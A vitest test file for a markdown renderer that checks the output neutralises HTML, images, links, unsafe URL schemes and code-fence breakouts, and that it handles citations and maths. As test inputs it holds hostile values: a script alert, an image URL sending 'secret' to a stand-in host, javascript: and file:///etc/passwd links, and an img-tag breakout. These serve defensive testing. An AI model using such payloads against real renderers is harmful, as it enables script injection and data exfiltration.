import { expect, test } from "vitest";
import { renderer } from "../../src/markdown/render";

const md = renderer({ copy: "Copy", image: "Image, not loaded", source: "Source" });
const render = (text: string, offered: number[] = []): string => md.render(text, { offered: new Set(offered) });

test("HTML is text", () => {
  expect(render("<b>x</b><script>alert(1)</script>")).not.toMatch(/<(?:b|script)>/);
});

test("an image is a link in words, which loads nothing", () => {
  const html = render("![a cat](https://evil.test/?q=secret)");
  expect(html).not.toContain("<img");
  expect(html).not.toContain("src=");
  expect(html).toContain("Image, not loaded: a cat");
});

test("a link has no address that the browser could look up", () => {
  const html = render("[x](https://example.org/a?b) and https://example.org/c");
  expect(html).not.toContain("href");
  expect(html.match(/data-url/g)).toHaveLength(2);
});

test.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "JaVaScRiPt:x"])(
  "%s is no link",
  (url) => {
    expect(render(`[x](${url})`)).not.toContain("data-url");
  },
);

test("only a number that was offered is a citation", () => {
  const html = render("It is so [2], not so [3], and `[2]` is code.", [1, 2]);
  expect(html.match(/data-cite="2"/g)).toHaveLength(1);
  expect(html).not.toContain('data-cite="3"');
  expect(html).toContain("[3]");
});

test("mathematics is kept apart from money", () => {
  expect(render("from $5 to $10")).not.toContain("maths");
  expect(render("so $a_1 * b_2 * c$ is")).toContain('data-tex="a_1 * b_2 * c"');
  expect(render("\\(x\\) and \\[y\\]")).toMatch(/data-tex="x" data-display="false".*data-tex="y" data-display="true"/s);
  expect(render("$$\\frac{1}{2}$$")).toContain('data-display="true"');
});

test("code says its language, and nothing gets out of it", () => {
  const html = render('```"><img src=x>\n<script>\n```');
  expect(html).not.toMatch(/<(?:img|script)/);
  expect(render("```python\nx = 1\n```")).toContain('data-language="python"');
});
